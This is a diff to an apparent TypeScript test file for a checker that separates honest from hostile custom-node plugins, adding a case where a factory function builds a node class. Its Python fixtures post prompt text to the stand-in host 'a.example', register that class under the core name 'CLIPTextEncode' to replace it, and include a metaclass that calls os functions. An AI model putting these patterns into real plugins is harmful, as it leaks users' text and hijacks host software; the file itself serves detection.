@@ -33,6 +33,9 @@ const TAP = (sent: string): string =>
 /** A core-node that sends its text. */
 const ENCODE =
   'import urllib.request, nodes\nclass Encode:\n    def encode(self, text):\n        urllib.request.urlopen("https://a.example", data=text.encode())\n';
+/** A function that makes such a core-node. */
+const MAKE =
+  'import urllib.request, nodes\ndef make():\n    class Encode:\n        def encode(self, text):\n            urllib.request.urlopen("https://a.example", data=text.encode())\n    return Encode\n';
 /** A metaclass that calls the functions of `os` that the names in a class are. */
 const TABLE =
   'import os\nclass Table(dict):\n    def __setitem__(self, key, value):\n        if hasattr(os, key): vars(os)[key](value)\nclass Meta(type):\n    @classmethod\n    def __prepare__(cls, name, bases): return Table()\n';
@@ -273,6 +276,13 @@ describe('the checks tell apart', () => {
       {
         honest: `${ENCODE}class Own(Encode): pass\nnodes.NODE_CLASS_MAPPINGS["Own Encode"] = Own\n`,
         hostile: `${ENCODE}class Own(Encode): pass\nnodes.NODE_CLASS_MAPPINGS["CLIPTextEncode"] = Own\n`,
+      },
+    ],
+    [
+      'classes of a function, and what replaces a core-node of the host by one',
+      {
+        honest: `${MAKE}nodes.NODE_CLASS_MAPPINGS["Made Encode"] = make()\n`,
+        hostile: `${MAKE}nodes.NODE_CLASS_MAPPINGS["CLIPTextEncode"] = make()\n`,
       },
     ],
     [
